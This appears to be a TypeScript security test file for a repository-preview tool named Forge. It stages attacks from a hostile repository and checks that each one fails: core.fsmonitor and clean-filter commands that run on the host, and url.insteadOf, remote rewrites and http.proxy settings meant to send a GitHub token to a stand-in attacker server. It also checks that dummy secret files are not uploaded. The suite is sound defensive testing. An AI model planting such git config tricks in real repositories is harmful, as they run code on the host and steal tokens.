// Attacks from a repository (issue 13, findings 1, 3, 5, 6): repository code that rewrites where the next pull
// sends the token, a .git/config that runs commands on the host, secret files uploaded by default, secrets on
// a command line. Each runs the real pipeline or the real host git and checks that the attack got nothing.
import * as assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { readRepoFacts } from '../../../src/core/repo/facts';
import { runPreview, type PreviewOutcome } from '../../../src/core/pipeline/run';
import type { PreviewSettings } from '../../../src/core/pipeline/settings';
import { createSyncFilter } from '../../../src/core/sync/syncFilter';
import { ForgeError } from '../../../src/common/errors';
import { git } from '../../support/git';
import { startGitServer, type GitServer } from '../../support/gitServer';
import { testPreviewRequest } from '../../support/previewRequest';
import { TOKEN } from '../../unit/core/pipeline/harness';
import type { Lane } from '../kit/lane';
import type { Case } from '../kit/runner';

function attack(name: string, run: (lane: Lane) => Promise<void>): Case<Lane> {
  return { suite: 'attacks', name, run };
}

const preview = (lane: Lane, folder: string, settings: Partial<PreviewSettings> = {}): Promise<PreviewOutcome> =>
  runPreview(testPreviewRequest({ folder, daytona: lane.daytona, token: TOKEN, githubHost: lane.git.baseUrl }, { settings: { readyTimeoutSeconds: 30, installTimeoutSeconds: 120, ...settings } }));

/** Where a sandbox path lives on this machine (the local backend keeps sandboxes as folders). */
const onHost = (lane: Lane, outcome: PreviewOutcome, relative: string): string =>
  path.join(lane.dataDir, 'sandboxes', outcome.preview.info.sandboxId, 'home', path.basename(outcome.preview.info.repoPath), relative);

/** Every process on this machine whose command line (or environment) contains `secret`. */
async function processesWith(secret: string, file: 'cmdline' | 'environ' = 'cmdline'): Promise<string[]> {
  const found: string[] = [];
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
    const line = await readFile(`/proc/${pid}/${file}`, 'latin1').catch(() => '');
    if (line.includes(secret)) found.push(`${pid}: ${line.replace(/\0/g, ' ').slice(0, 120)}`);
  }
  return found;
}

const SECRET_FILES: Readonly<Record<string, string>> = {
  '.env': 'STRIPE_KEY=sk_live_attackSuiteSecret1\n',
  'config/server.key': '-----BEGIN PRIVATE KEY-----\nattack\n',
  'certs/dev.pem': '-----BEGIN CERTIFICATE-----\nattack\n',
  'id_ed25519': '-----BEGIN OPENSSH PRIVATE KEY-----\nattack\n',
};

/** A repository whose .git/config runs `command` on the host through `key` (with .gitattributes for filters). */
async function hostileRepo(configure: (dir: string, marker: string) => Promise<void>): Promise<{ dir: string; marker: string; cleanup: () => Promise<void> }> {
  const dir = await mkdtemp(path.join(tmpdir(), 'forge-attack-repo-'));
  const marker = path.join(dir, 'PWNED');
  await git(dir, ['init', '-q', '-b', 'main']);
  await writeFile(path.join(dir, 'a.txt'), 'one\n');
  await git(dir, ['add', '.']);
  await git(dir, ['commit', '-q', '-m', 'one']);
  await configure(dir, marker);
  return { dir, marker, cleanup: () => rm(dir, { recursive: true, force: true }) };
}

/** The lane's repository (pushed), previewed once; then repository code plants `plant` in the sandbox; a new commit makes the next preview pull. */
async function reusedSandboxAttack(lane: Lane, plant: (outcome: PreviewOutcome, evil: GitServer) => string): Promise<{ evil: GitServer; error: unknown }> {
  const evil = await startGitServer({ token: 'ghp_attackerServerTokenXXXXXXXXXXXXXXXXXX' });
  const wc = await lane.copy('plain-node');
  let second: PreviewOutcome | undefined;
  let error: unknown;
  const first = await preview(lane, wc.dir);
  try {
    const planted = await first.preview.sandbox.process.executeCommand(plant(first, evil), undefined, undefined, 30);
    assert.equal(planted.exitCode, 0, `planting failed: ${planted.result}`);
    await writeFile(path.join(wc.dir, 'newer.txt'), 'a newer pushed commit\n');
    await git(wc.dir, ['add', '.']);
    await git(wc.dir, ['commit', '-q', '-m', 'newer']);
    await git(wc.dir, [...lane.git.authArgs(), 'push', '-q', 'origin', `HEAD:refs/heads/${wc.branch}`]);
    second = await preview(lane, wc.dir).catch((caught: unknown) => {
      error = caught;
      return undefined;
    });
  } finally {
    await first.preview.sandbox.delete(60).catch(() => undefined);
    if (second && second.preview.sandbox.id !== first.preview.sandbox.id) await second.preview.sandbox.delete(60).catch(() => undefined);
    await evil.close();
  }
  return { evil, error };
}

function assertNoToken(evil: GitServer, error: unknown): void {
  const sent = evil.requests.filter((r) => r.credentials?.password === TOKEN);
  assert.equal(sent.length, 0, `the token reached the attacker's server ${sent.length} time(s)`);
  if (error !== undefined) {
    assert.ok(error instanceof ForgeError, `a refusal must be a clear message, got ${error instanceof Error ? error.message : typeof error}`);
    assert.match(error.message, /did not send your GitHub token/);
  }
}

export function repoAttackCases(): Case<Lane>[] {
  return [...secretFileCases(), ...gitCases()];
}

function secretFileCases(): Case<Lane>[] {
  return [
    attack('an untracked, unignored .env and key files are uploaded into the sandbox with the local changes', async (lane) => {
      const wc = await lane.copy('plain-node', { localChanges: { untracked: { ...SECRET_FILES, 'notes.txt': 'harmless\n' } } });
      const outcome = await preview(lane, wc.dir);
      try {
        assert.ok(existsSync(onHost(lane, outcome, 'notes.txt')), 'the harmless untracked file still travels');
        for (const file of Object.keys(SECRET_FILES)) assert.ok(!existsSync(onHost(lane, outcome, file)), `${file} reached the sandbox`);
      } finally {
        await outcome.preview.sandbox.delete(60).catch(() => undefined);
      }
    }),
    attack('a folder without git uploads its .env and key files', async (lane) => {
      const wc = await lane.copy('plain-node', { git: false });
      for (const [file, content] of Object.entries(SECRET_FILES)) {
        await mkdir(path.dirname(path.join(wc.dir, file)), { recursive: true });
        await writeFile(path.join(wc.dir, file), content);
      }
      const outcome = await preview(lane, wc.dir, { includeIgnored: ['certs/dev.pem'] });
      try {
        for (const file of Object.keys(SECRET_FILES).filter((f) => f !== 'certs/dev.pem')) assert.ok(!existsSync(onHost(lane, outcome, file)), `${file} reached the sandbox`);
        assert.ok(existsSync(onHost(lane, outcome, 'certs/dev.pem')), 'a file the user opted in (forge.sync.includeIgnored) travels');
      } finally {
        await outcome.preview.sandbox.delete(60).catch(() => undefined);
      }
    }),
    attack('sync on save sends a new .env to the sandbox', async (lane) => {
      const wc = await lane.copy('plain-node');
      await writeFile(path.join(wc.dir, '.env'), SECRET_FILES['.env'] ?? '');
      const result = await createSyncFilter(wc.dir, []).filter(['.env', 'src/index.js', 'deploy/id_rsa']);
      assert.deepEqual(result.keep, ['src/index.js']);
      assert.deepEqual((await createSyncFilter(wc.dir, ['.env']).filter(['.env'])).keep, ['.env'], 'opting in sends it');
    }),
    attack("the dev server's environment (settings, env file) is on a command line every local user can read", async (lane) => {
      const secret = 'sk_live_attackSuiteArgvSecret42';
      const wc = await lane.copy('plain-node');
      const outcome = await preview(lane, wc.dir, { envVars: { STRIPE_SECRET_KEY: secret } });
      try {
        assert.deepEqual(await processesWith(secret), [], 'the secret is in a process command line');
        assert.notDeepEqual(await processesWith(secret, 'environ'), [], 'the dev server did not get the variable at all');
        const check = await outcome.preview.sandbox.process.executeCommand('ls -A .forge/env 2>/dev/null | wc -l');
        assert.equal(check.result.trim(), '0', 'the env file is removed once read');
      } finally {
        await outcome.preview.sandbox.delete(60).catch(() => undefined);
      }
    }),
  ];
}

function gitCases(): Case<Lane>[] {
  return [
    attack('a repository core.fsmonitor runs a command when Forge reads the repository (extension and CLI)', async () => {
      const repo = await hostileRepo((dir, marker) => git(dir, ['config', 'core.fsmonitor', `touch '${marker}'; false`]).then(() => undefined));
      try {
        await writeFile(path.join(repo.dir, 'a.txt'), 'two\n');
        await readRepoFacts(repo.dir, { githubHost: 'github.com' });
        assert.ok(!existsSync(repo.marker), 'the fsmonitor command ran on the host');
      } finally {
        await repo.cleanup();
      }
    }),
    attack('a repository clean filter runs a command when Forge reads git status and diff', async () => {
      const repo = await hostileRepo(async (dir, marker) => {
        await git(dir, ['config', 'filter.evil.clean', `touch '${marker}'; cat`]);
        await writeFile(path.join(dir, '.gitattributes'), '* filter=evil\n');
      });
      try {
        // Same size, new content: git must look at the content, through the filter.
        await writeFile(path.join(repo.dir, 'a.txt'), 'two\n');
        await readRepoFacts(repo.dir, { githubHost: 'github.com' });
        assert.ok(!existsSync(repo.marker), 'the clean filter ran on the host');
      } finally {
        await repo.cleanup();
      }
    }),
    attack('repository code plants url.insteadOf in the sandbox ~/.gitconfig: the next preview pulls with the token', async (lane) => {
      const { evil, error } = await reusedSandboxAttack(lane, (_o, evilServer) => `git config --global url.${evilServer.baseUrl}/.insteadOf ${lane.git.baseUrl}/`);
      assertNoToken(evil, error);
    }),
    attack("repository code rewrites the checkout's origin: the next preview pulls with the token", async (lane) => {
      const { evil, error } = await reusedSandboxAttack(lane, (o, evilServer) => `git -C ${o.preview.info.repoPath} remote set-url origin ${evilServer.baseUrl}/forge-tests/stolen.git`);
      assertNoToken(evil, error);
    }),
    attack("repository code plants url.insteadOf in the checkout's .git/config", async (lane) => {
      const { evil, error } = await reusedSandboxAttack(lane, (o, evilServer) => `git -C ${o.preview.info.repoPath} config url.${evilServer.baseUrl}/.insteadOf ${lane.git.baseUrl}/`);
      assertNoToken(evil, error);
    }),
    attack('repository code sets http.proxy in the checkout: the token would go through the attacker', async (lane) => {
      const { evil, error } = await reusedSandboxAttack(lane, (o, evilServer) => `git -C ${o.preview.info.repoPath} config http.proxy ${evilServer.baseUrl}`);
      assertNoToken(evil, error);
    }),
    attack('"Pull Latest and Restart" after repository code planted url.insteadOf', async (lane) => {
      const evil = await startGitServer({ token: 'ghp_attackerServerTokenXXXXXXXXXXXXXXXXXX' });
      const wc = await lane.copy('plain-node');
      const first = await preview(lane, wc.dir);
      try {
        await first.preview.sandbox.process.executeCommand(`git -C ${first.preview.info.repoPath} config url.${evil.baseUrl}/.insteadOf ${lane.git.baseUrl}/`, undefined, undefined, 30);
        const error = await first.preview
          .pullLatest({ credentials: { githubHost: lane.git.baseUrl, githubToken: () => Promise.resolve(TOKEN) }, env: {}, useCacheVolume: false, installTimeoutSeconds: 60, signal: new AbortController().signal, onLog: () => undefined })
          .then(() => undefined, (caught: unknown) => caught);
        assert.ok(error !== undefined, 'the pull went ahead');
        assertNoToken(evil, error);
      } finally {
        await first.preview.sandbox.delete(60).catch(() => undefined);
        await evil.close();
      }
    }),
  ];
}
